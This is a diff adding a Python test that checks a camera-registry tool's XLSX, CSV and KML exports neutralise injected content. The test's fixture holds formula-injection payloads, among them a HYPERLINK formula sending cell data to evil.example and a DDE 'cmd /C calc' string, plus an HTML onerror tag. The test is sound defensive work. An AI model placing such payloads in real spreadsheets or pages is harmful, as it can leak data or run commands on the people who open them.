@@ -166,3 +166,37 @@ def _alive(pid: int) -> bool:
             return fh.read().rsplit(")", 1)[1].split()[0] != "Z"
     except FileNotFoundError:
         return False
+
+
+HOSTILE = {"site_name": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+           "agency": "@SUM(1+1)*cmd|' /C calc'!A0",
+           "place_name": "+1+2", "brand": "-2+3", "model": "\t=1+1"}
+
+
+def test_formula_text_from_the_registry_stays_text_in_every_export(cli, db, handed_in, tmp_path):
+    from survey_node.db import transaction
+
+    with transaction(db):
+        for column, text in HOSTILE.items():
+            db.execute(f"UPDATE cameras SET {column} = ? WHERE camera_id = 'NMA-001'", [text])
+        db.execute("UPDATE cameras SET agency = ? WHERE camera_id = 'NMA-002'",
+                   ['<img src=x onerror="alert(1)">'])
+    xlsx, csv_out, kml = tmp_path / "c.xlsx", tmp_path / "c.csv", tmp_path / "c.kml"
+    _export(cli, handed_in["data_dir"], "xlsx", xlsx)
+    sheet = openpyxl.load_workbook(xlsx)["กล้อง"]
+    cells = {c.value: c for row in sheet.iter_rows(min_row=2) for c in row}
+    for text in HOSTILE.values():  # the exact text, typed as a string: Excel shows it, runs nothing
+        assert cells[text].data_type == "s", text
+    _export(cli, handed_in["data_dir"], "csv", csv_out)
+    rows = list(csv.reader(io.StringIO(csv_out.read_bytes().decode("utf-8-sig"))))
+    moved = dict(zip(rows[0], next(r for r in rows if r[0] == "NMA-001")))
+    assert moved["ชื่อจุดติดตั้ง"] == "'" + HOSTILE["site_name"]
+    written = {v for r in rows[1:] for v in r}
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in written), written
+    assert "'-2+3" in written and "'@SUM(1+1)*cmd|' /C calc'!A0" in written
+    _export(cli, handed_in["data_dir"], "kml", kml)
+    ns = {"k": "http://www.opengis.net/kml/2.2"}
+    marks = {m.get("id"): m for m in ET.parse(kml).getroot().findall(".//k:Placemark", ns)}
+    description = marks["NMA-002"].find("k:description", ns).text
+    # A viewer renders the description as HTML: the tag must arrive as text, not as markup.
+    assert "<img" not in description and "&lt;img src=x" in description
